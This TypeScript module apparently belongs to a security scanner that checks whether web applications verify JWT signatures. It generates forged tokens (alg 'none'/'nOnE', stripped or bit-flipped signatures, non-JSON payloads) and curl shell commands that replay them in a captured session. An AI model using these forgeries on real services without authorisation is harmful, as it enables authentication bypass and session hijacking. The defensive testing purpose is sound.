import { quoteShell } from '../../../../shared/quoteShell.ts'
import { decodeJwt, encodeJwtPart, type JwtParts, joinJwt, splitJwt } from '../../../read/formats/jwt.ts'

/** A token that nobody but an application which does not verify it takes for its own. */
export type TamperedToken = {
  readonly text: string
  /** What was changed, in a few words. */
  readonly about: string
  /** Makes the same of `$TOKEN` in a POSIX shell. */
  readonly command: string
}

/**
 * Makes forgeries of a JSON Web Token whose claims stay as they are, so that whoever takes one gives no more than its
 * owner may see anyway. Empty for what is no token with a signature. Source: RFC 8725, 2.1.
 */
export function tamperToken(token: string): readonly TamperedToken[] {
  const parts = splitJwt(token)
  const decoded = decodeJwt(token)
  if (decoded === null || parts === null || parts.signature.length < 8) return []
  const header = (alg: string) => encodeJwtPart(JSON.stringify({ ...decoded.header, alg }))
  const forge = (changed: Partial<JwtParts>) => joinJwt({ ...parts, ...changed })
  const unsigned = (alg: string): TamperedToken => ({
    text: forge({ header: header(alg), signature: '' }),
    about: `alg ${alg} without signature`,
    command: `${header(alg)}.$(printf %s "$TOKEN" | cut -d. -f2).`,
  })
  return [
    {
      text: forge({ signature: flipBit(parts.signature) }),
      about: 'one bit of the signature flipped',
      command: `\${TOKEN%.*}.$(printf %s "\${TOKEN##*.}" | tr A-Za-z a-zA-Z)`,
    },
    unsigned('none'),
    { text: forge({ signature: '' }), about: 'without signature', command: `\${TOKEN%.*}.` },
    unsigned('nOnE'),
  ]
}

/** Makes a token whose claims are no JSON of `$TOKEN` in a POSIX shell. */
export const breakingCommand = `\${TOKEN%%.*}.${encodeJwtPart('no JSON')}.\${TOKEN##*.}`

/** Signs `$TOKEN` anew with `$JWT_SECRET` in a POSIX shell. `alg`: HS256, HS384 or HS512 (RFC 7518, 3.2). */
export function signingCommand(alg: string): string {
  const sign = `openssl dgst -sha${alg.slice(2)} -hmac "$JWT_SECRET" -binary | openssl base64 -A`
  return `\${TOKEN%.*}.$(printf %s "\${TOKEN%.*}" | ${sign} | tr '+/' '-_' | tr -d '=')`
}

/** A request with another token in the place of that of the sign-in, as commands for a POSIX shell. */
export function tokenCommand(url: string, name: string, command: string): string {
  // The sign-in may hold several.
  const from = /^[\w-]+$/.test(name) ? ` | sed 's/^.*[ ;]${name}=//'` : ''
  return [
    `TOKEN="$(printf %s "$SESSION_A"${from} | grep -o 'eyJ[A-Za-z0-9_-]*.[A-Za-z0-9_-]*.[A-Za-z0-9_-]*' | head -n 1)"`,
    `FORGED="${command}"`,
    `curl -i --path-as-is -H "$(printf %s "$SESSION_A" | sed "s/$TOKEN/$FORGED/")" ${quoteShell(url)}`,
  ].join('\n')
}

/** The token with claims that are no JSON: whoever takes it does not look at it at all. Null for no token. */
export function breakToken(token: string): string | null {
  const parts = splitJwt(token)
  return parts === null ? null : joinJwt({ ...parts, payload: encodeJwtPart('no JSON') })
}

/** In the middle: the last character of base64url has bits that say nothing. */
function flipBit(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url')
  const middle = Math.floor(bytes.length / 2)
  bytes[middle] = (bytes[middle] ?? 0) ^ 1
  return bytes.toString('base64url')
}
